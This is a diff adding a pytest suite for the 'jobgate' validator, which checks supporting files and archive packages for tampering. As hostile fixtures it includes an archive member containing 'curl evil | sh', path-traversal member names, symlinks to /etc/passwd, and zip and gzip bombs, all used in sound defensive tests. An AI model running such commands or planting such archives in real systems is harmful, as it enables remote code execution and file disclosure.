@@ -1,0 +1,265 @@
+"""Supporting files against real directories and real archives built in the test:
+every file rule, symlinks, changed files, packages and their bombs."""
+
+from __future__ import annotations
+
+import copy
+import hashlib
+import io
+import json
+import os
+import tarfile
+import zipfile
+from pathlib import Path
+
+import pytest
+import zstandard
+
+import jobgate
+from tests.conftest import example
+
+BASE = example("spec_bundle.config_mode.with_execution_lifecycle.valid.json")
+V = jobgate.Validator()
+
+
+def sha(data: bytes) -> str:
+    return hashlib.sha256(data).hexdigest()
+
+
+def bundle(files: list[tuple[str, str, str]]) -> dict:
+    doc = copy.deepcopy(BASE)
+    doc["execution"]["supporting_files"] = [{"source": s, "destination": d, "sha256": h} for s, d, h in files]
+    return doc
+
+
+def pairs(report: jobgate.Report) -> list[tuple[str, str]]:
+    return [(v.rule, v.field) for v in report.violations]
+
+
+@pytest.fixture
+def root(tmp_path: Path) -> Path:
+    r = tmp_path / "producer"
+    (r / "scripts").mkdir(parents=True)
+    (r / "scripts" / "checkpoint_action.py").write_bytes(b"import os\nprint('checkpoint')\n")
+    (r / "scripts" / "notes.txt").write_bytes(b"notes\n")
+    (r / "scripts" / "empty.cfg").write_bytes(b"")
+    (tmp_path / "outside.txt").write_bytes(b"secret\n")
+    return r
+
+
+def declare(root: Path, *names: str) -> list[tuple[str, str, str]]:
+    return [(n, n.rsplit("/", 1)[-1], sha((root / n).read_bytes())) for n in names]
+
+
+F = "/execution/supporting_files"
+
+
+def test_a_closed_untampered_set_passes(root):
+    doc = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/notes.txt", "scripts/empty.cfg"))
+    report = V.check(doc, root=root)
+    assert report.verdict == "pass", report.violations
+
+
+def test_missing_not_regular_and_mismatch_are_all_reported(root):
+    os.mkfifo(root / "scripts" / "pipe")
+    (root / "scripts" / "adir").mkdir()
+    files = declare(root, "scripts/checkpoint_action.py", "scripts/notes.txt")
+    files[1] = (files[1][0], files[1][1], sha(b"something else"))
+    files += [("scripts/gone.py", "gone.py", "a" * 64), ("scripts/pipe", "pipe", "b" * 64), ("scripts/adir", "adir", "c" * 64)]
+    report = V.check(bundle(files), root=root)
+    assert pairs(report) == [
+        ("tao.supporting_file.sha256_mismatch", f"{F}/1/sha256"),
+        ("tao.supporting_file.missing", f"{F}/2/source"),
+        ("tao.supporting_file.not_regular", f"{F}/3/source"),
+        ("tao.supporting_file.not_regular", f"{F}/4/source"),
+    ]
+    mismatch = report.violations[0].message
+    assert sha(b"notes\n") in mismatch and sha(b"something else") in mismatch
+
+
+def test_symlinks_inside_out_and_dangling(root, tmp_path):
+    s = root / "scripts"
+    os.symlink("notes.txt", s / "inside_link")
+    os.symlink("../../outside.txt", s / "out_relative")
+    os.symlink(str(tmp_path / "outside.txt"), s / "out_absolute")
+    os.symlink("nowhere.txt", s / "dangling")
+    files = [
+        ("scripts/inside_link", "a", sha(b"notes\n")),
+        ("scripts/out_relative", "b", sha(b"secret\n")),
+        ("scripts/out_absolute", "c", sha(b"secret\n")),
+        ("scripts/dangling", "d", "a" * 64),
+    ]
+    assert pairs(V.check(bundle(files), root=root)) == [
+        ("tao.supporting_file.escape", f"{F}/1/source"),
+        ("tao.supporting_file.escape", f"{F}/2/source"),
+        ("tao.supporting_file.missing", f"{F}/3/source"),
+    ]
+
+
+def test_a_file_changed_after_the_declaration(root):
+    doc = bundle(declare(root, "scripts/notes.txt"))
+    assert V.check(doc, root=root).ok
+    (root / "scripts" / "notes.txt").write_bytes(b"notes, edited\n")
+    assert pairs(V.check(doc, root=root)) == [("tao.supporting_file.sha256_mismatch", f"{F}/0/sha256")]
+
+
+def test_uppercase_hex_is_a_pattern_violation(root):
+    (src, dest, digest), = declare(root, "scripts/notes.txt")
+    assert pairs(V.check(bundle([(src, dest, digest.upper())]), root=root)) == [("schema.pattern", f"{F}/0/sha256")]
+
+
+def test_undeclared_sibling_import(root):
+    s = root / "scripts"
+    (s / "checkpoint_action.py").write_bytes(b"import os\nimport util\nfrom . import extra\nfrom helpers_pkg import thing\n")
+    (s / "util.py").write_bytes(b"X = 1\n")
+    (s / "extra.py").write_bytes(b"Y = 1\n")
+    (s / "helpers_pkg").mkdir()
+    (s / "helpers_pkg" / "__init__.py").write_bytes(b"")
+    doc = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/extra.py"))
+    report = V.check(doc, root=root)
+    assert pairs(report) == [("tao.supporting_file.undeclared_import", f"{F}/0/source")] * 2
+    assert "util" in report.violations[0].message and "helpers_pkg" in report.violations[1].message
+    closed = bundle(declare(root, "scripts/checkpoint_action.py", "scripts/extra.py", "scripts/util.py", "scripts/helpers_pkg/__init__.py"))
+    assert V.check(closed, root=root).ok
+
+
+def test_unopenable_root_is_an_error_not_a_verdict(tmp_path):
+    with pytest.raises(FileNotFoundError, match="producer root"):
+        V.check(bundle([]), root=tmp_path / "nope")
+
+
+def test_a_1_gib_sparse_file(tmp_path):
+    r = tmp_path / "root"
+    r.mkdir()
+    big = r / "sparse.bin"
+    with open(big, "wb") as f:
+        f.truncate(1 << 30)
+    digest = hashlib.sha256()
+    zeros = bytes(1 << 20)
+    for _ in range(1024):
+        digest.update(zeros)
+    v = jobgate.Validator({"limits": {"max_package_bytes": 2 << 30}})
+    assert v.check(bundle([("sparse.bin", "sparse.bin", digest.hexdigest())]), root=r).ok
+    small = jobgate.Validator({"limits": {"max_package_bytes": 1 << 20}})
+    assert pairs(small.check(bundle([("sparse.bin", "sparse.bin", digest.hexdigest())]), root=r)) == [("tao.supporting_file.missing", f"{F}/0/source")]
+
+
+def test_ten_thousand_small_files(tmp_path):
+    r = tmp_path / "many"
+    files = []
+    for i in range(10_000):
+        d = r / f"d{i % 100:02d}"
+        d.mkdir(parents=True, exist_ok=True)
+        data = f"file {i}\n".encode()
+        (d / f"f{i}.txt").write_bytes(data)
+        files.append((f"d{i % 100:02d}/f{i}.txt", f"out/f{i}.txt", sha(data)))
+    v = jobgate.Validator({"limits": {"max_document_bytes": 4 << 20}})  # the bundle itself is ~1.3 MB
+    assert v.check(bundle(files), root=r).ok
+    files[9_999] = (files[9_999][0], files[9_999][1], "0" * 64)
+    assert pairs(v.check(bundle(files), root=r)) == [("tao.supporting_file.sha256_mismatch", f"{F}/9999/sha256")]
+
+
+# ---------------------------------------------------------------- packages
+
+
+def tar_package(path: Path, members: dict[str, bytes], mode: str = "w", links: dict[str, str] | None = None) -> Path:
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, data in members.items():
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+        for name, target in (links or {}).items():
+            info = tarfile.TarInfo(name)
+            info.type = tarfile.SYMTYPE
+            info.linkname = target
+            tar.addfile(info)
+    raw = buf.getvalue()
+    if mode == "gz":
+        import gzip
+
+        raw = gzip.compress(raw)
+    elif mode == "zst":
+        raw = zstandard.ZstdCompressor().compress(raw)
+    path.write_bytes(raw)
+    return path
+
+
+def zip_package(path: Path, members: dict[str, bytes]) -> Path:
+    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
+        for name, data in members.items():
+            z.writestr(name, data)
+    return path
+
+
+HELPER = b"print('checkpoint')\n"
+
+
+def packaged(extra: dict[str, bytes] | None = None) -> tuple[dict, dict[str, bytes]]:
+    doc = bundle([("scripts/checkpoint_action.py", "checkpoint_action.py", sha(HELPER))])
+    members = {"bundle.json": json.dumps(doc).encode(), "scripts/checkpoint_action.py": HELPER, **(extra or {})}
+    return doc, members
+
+
+@pytest.mark.parametrize("fmt", ["tar", "gz", "zst", "zip"])
+def test_packages_of_every_format(tmp_path, fmt):
+    doc, members = packaged()
+    path = zip_package(tmp_path / "p.zip", members) if fmt == "zip" else tar_package(tmp_path / f"p.{fmt}", members, fmt)
+    assert V.check(None, package=path).verdict == "pass"
+    assert V.check(doc, package=path).verdict == "pass"
+
+
+@pytest.mark.parametrize("fmt", ["tar", "zip"])
+def test_undeclared_member(tmp_path, fmt):
+    _, members = packaged({"scripts/stowaway.sh": b"curl evil | sh\n"})
+    path = zip_package(tmp_path / "p.zip", members) if fmt == "zip" else tar_package(tmp_path / "p.tar", members)
+    report = V.check(None, package=path)
+    assert pairs(report) == [("tao.supporting_file.undeclared", F)]
+    assert "scripts/stowaway.sh" in report.violations[0].message
+
+
+def test_hostile_members_are_never_followed(tmp_path):
+    _, members = packaged({"../escape.py": b"x", "/abs.py": b"y"})
+    path = tar_package(tmp_path / "p.tar", members, links={"scripts/link.py": "/etc/passwd"})
+    report = V.check(None, package=path)
+    assert sorted(pairs(report)) == [
+        ("tao.supporting_file.path", F),
+        ("tao.supporting_file.path", F),
+        ("tao.supporting_file.undeclared", F),
+    ]
+    # a declared source that is a link in the package
+    doc = bundle([("scripts/link.py", "link.py", "a" * 64)])
+    path = tar_package(tmp_path / "q.tar", {"bundle.json": json.dumps(doc).encode()}, links={"scripts/link.py": "/etc/passwd"})
+    assert pairs(V.check(None, package=path)) == [("tao.supporting_file.not_regular", f"{F}/0/source")]
+
+
+def test_duplicate_members(tmp_path):
+    doc, members = packaged()
+    buf = io.BytesIO()
+    with tarfile.open(fileobj=buf, mode="w") as tar:
+        for name, data in [*members.items(), ("scripts/checkpoint_action.py", b"other")]:
+            info = tarfile.TarInfo(name)
+            info.size = len(data)
+            tar.addfile(info, io.BytesIO(data))
+    (tmp_path / "d.tar").write_bytes(buf.getvalue())
+    report = V.check(None, package=tmp_path / "d.tar")
+    assert ("tao.supporting_file.undeclared", F) in pairs(report)
+    assert "more than once" in " ".join(v.message for v in report.violations)
+
+
+def test_bombs_are_refused_before_inflating(tmp_path):
+    small = jobgate.Validator({"limits": {"max_package_bytes": 1 << 20}})
+    _, members = packaged({"zeros.bin": bytes(8 << 20)})
+    for path in (zip_package(tmp_path / "bomb.zip", members), tar_package(tmp_path / "bomb.tar.gz", members, "gz")):
+        assert path.stat().st_size < 100_000  # it really is a bomb
+        report = small.check(None, package=path)
+        assert pairs(report) == [("limits.size", "")], path
+
+
+def test_a_package_without_a_bundle_or_not_an_archive(tmp_path):
+    path = tar_package(tmp_path / "p.tar", {"scripts/a.py": b""})
+    report = V.check(None, package=path)
+    assert pairs(report) == [("json.syntax", "")] and "bundle.json" in report.violations[0].message
+    junk = tmp_path / "junk.bin"
+    junk.write_bytes(b"not an archive at all")
+    assert pairs(V.check(None, package=junk)) == [("json.syntax", "")]
